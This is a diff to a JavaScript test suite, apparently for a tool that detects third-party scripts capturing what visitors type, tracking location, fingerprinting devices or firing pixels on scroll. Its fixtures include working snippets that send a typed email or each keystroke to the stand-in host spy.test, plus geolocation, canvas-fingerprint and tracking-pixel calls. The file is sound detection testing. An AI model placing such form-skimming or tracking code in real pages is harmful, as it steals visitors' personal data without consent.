@@ -101,6 +101,13 @@ describe("a script of another company that takes what visitors type", () => {
     expect(leftThePage()).toEqual([]);
   });
 
+  it("gets the whole value, with its dots and signs", async () => {
+    const script = `const mail = document.getElementById("mail");
+      mail.onchange = () => fetch("http://spy.test/v?v=" + (/^\\w+@example\\.com$/.test(mail.value) ? mail.value : ""))`;
+    const { sent } = await typedInto(FORM, script);
+    expect(sent.map(({ how }) => how)).toEqual(["as typed"]);
+  });
+
   it("is seen in a handler that stands in the markup", async () => {
     const field = `<input placeholder="Your email" onkeyup="fetch('http://spy.test/v?v=' + this.value)">`;
     const { sent } = await typedInto(field, "");
@@ -131,5 +138,31 @@ describe("a page whose fields are its visitors' own", () => {
   ])("sends nothing where it %s", async (_what, body, script) => {
     const start = `const mail = document.getElementById("mail");`;
     expect(await typedInto(body, `${start} ${script}`)).toMatchObject({ sent: [] });
+  });
+});
+
+describe("a page seen by another new visitor", () => {
+  it("tells what scripts ask of the device before anything is touched, and what they stored", async () => {
+    const script = `navigator.geolocation.getCurrentPosition(() => {}, () => {});
+      const canvas = document.createElement("canvas"); canvas.toDataURL(); localStorage.setItem("id", "a1");`;
+    const seen = await typedInto("<p>Bread.</p>", script);
+    expect(seen).toMatchObject({
+      positionAskedBy: ["http://spy.test/script.js"],
+      fingerprintCalls: [{ api: "canvas", scriptUrl: "http://spy.test/script.js" }],
+      stored: { storage: [{ area: "local", key: "id" }] },
+    });
+  });
+
+  it("tells nothing of what a script does on a click or a key", async () => {
+    const script = `const ask = () => navigator.geolocation.watchPosition(() => {});
+      addEventListener("click", ask); addEventListener("keydown", ask);`;
+    expect(await typedInto(FORM, script)).toMatchObject({ positionAskedBy: [], fingerprintCalls: [] });
+  });
+
+  it("tells what is sent once the visitor scrolls, and lets none of it go", async () => {
+    const script = `addEventListener("scroll", () => { new Image().src = "http://spy.test/scrolled.gif" }, { once: true })`;
+    const { onceMoved = [] } = await typedInto(`<p style="height: 5000px">Bread.</p>`, script);
+    expect(onceMoved.map(({ url }) => url)).toContain("http://spy.test/scrolled.gif");
+    expect(leftThePage()).toEqual([]);
   });
 });
